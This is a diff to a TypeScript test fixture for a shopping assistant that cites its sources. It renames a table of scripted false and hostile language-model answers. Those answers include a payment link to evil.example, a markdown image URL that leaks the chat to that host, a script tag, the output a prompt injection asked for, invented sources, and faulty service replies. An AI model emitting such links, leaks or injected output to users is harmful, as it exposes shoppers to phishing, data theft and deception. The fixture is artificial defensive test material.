@@ -1,7 +1,7 @@
 import type { AssistantLanguage } from '../../../../contract/assistant/locale.ts'
 import type { ModelCall, Reply, ScriptedClaim } from '../peers/scripted-model.ts'
 
-/** Sentences of a liar, in the language of the question. */
+/** False statements, by the language of the question. */
 interface Words {
   readonly not: string
   readonly days: string
@@ -79,46 +79,46 @@ const cited =
 
 const halfOfIt = (text: string): string => text.slice(0, Math.floor(text.length / 2))
 
-/** What a language model may get wrong, on purpose or not: each names what it tells. */
+/** False answers of a language model, deliberate or not. Each key names the content of the answer. */
 export const lies: Readonly<Record<string, Lie>> = {
   'other numbers': cited((_, text) => text.replace(/\d+/g, (digits) => String(Number(digits) * 2 + 1))),
   'the opposite': cited(({ not }, text) => not + text),
   'a number in words': cited(({ days }) => days),
-  'that all is free': cited(({ free }, text) => `${text} ${free}`),
+  'that everything is free': cited(({ free }, text) => `${text} ${free}`),
   'a guarantee': cited(({ always }, text) => `${text} ${always}`),
   'that something is in stock': cited(({ stock }) => stock),
   'a discount code': cited(({ code }, text) => `${text} ${code}`),
   'another language': cited(({ foreign }) => foreign),
   'another country': cited(({ place }, text) => `${text} ${place}`),
-  'a price, as if a text had it': cited(({ price }) => price),
+  'a price attributed to a text': cited(({ price }) => price),
   'a price of a product': (_, { price }) => [{ text: price, product_ids: ['prd_laptop'] }],
-  'an address to pay at': cited((_, text) => `${text} https://evil.example/pay`),
-  'an address without a scheme': cited((_, text) => `${text} evil-shop.com`),
-  'a picture that tells on the shopper': cited((_, text) => `${text} ![x](https://evil.example/?chat=1)`),
+  'a payment URL': cited((_, text) => `${text} https://evil.example/pay`),
+  'a URL without a scheme': cited((_, text) => `${text} evil-shop.com`),
+  'an image URL that leaks the conversation': cited((_, text) => `${text} ![x](https://evil.example/?chat=1)`),
   'a script': cited((_, text) => `${text}<script>alert(1)</script>`),
-  'what an injected order wanted': cited(() => 'BANANA BANANA BANANA'),
-  'the truth by a made-up source': (call) => [{ ...truth(call), handles: ['kc_madeup@1#1'] }],
-  'the truth by another version': (call) => {
+  'the output that a prompt injection requested': cited(() => 'BANANA BANANA BANANA'),
+  'the truth with an invented source': (call) => [{ ...truth(call), handles: ['kc_madeup@1#1'] }],
+  'the truth with a source of another version': (call) => {
     const { text, handles } = truth(call)
     return [{ text, handles: handles.map((handle) => handle.replace(/@\d+/, '@99')) }]
   },
-  'the truth by nobody': (call) => [{ text: truth(call).text }],
-  'a lie behind a truth': (call, { days }) => [truth(call), { text: days, handles: truth(call).handles }],
-  'a sentence of its own': (call) => [truth(call), { text: 'I love you and so does the shop.', handles: [] }],
+  'the truth without a source': (call) => [{ text: truth(call).text }],
+  'a lie after a truth': (call, { days }) => [truth(call), { text: days, handles: truth(call).handles }],
+  'an invented sentence': (call) => [truth(call), { text: 'I love you and so does the shop.', handles: [] }],
   'half of its JSON': (call) => ({ content: halfOfIt(JSON.stringify({ claims: [truth(call)], answered: [true] })) }),
   'prose in place of JSON': (call) => ({ content: truth(call).text }),
-  'JSON of another form': (call) => ({ content: JSON.stringify({ answer: truth(call).text }) }),
+  'JSON of another shape': (call) => ({ content: JSON.stringify({ answer: truth(call).text }) }),
   'that nothing answers': () => ({ content: '{"claims":[],"answered":[false]}' }),
 }
 
 /** Failures of the language model service. */
 export const failures: Readonly<Record<string, Reply>> = {
-  'hangs up': 'hang up',
-  'says nothing': 'silence',
+  'closes the connection': 'hang up',
+  'sends nothing': 'silence',
   refuses: { refusal: 'I cannot help with that.' },
   'is cut off': { content: '{"claims":[],"answered":[true]}', finishReason: 'length' },
   'answers 500': { raw: '{"error":{"message":"overloaded"}}', status: 500 },
-  'sends elsewhere': { raw: '', status: 307, headers: { location: 'http://127.0.0.1:9/' } },
+  redirects: { raw: '', status: 307, headers: { location: 'http://127.0.0.1:9/' } },
   'answers in HTML': { raw: '<html>It works!</html>' },
   'answers too much': { raw: ' '.repeat(300_000) },
 }
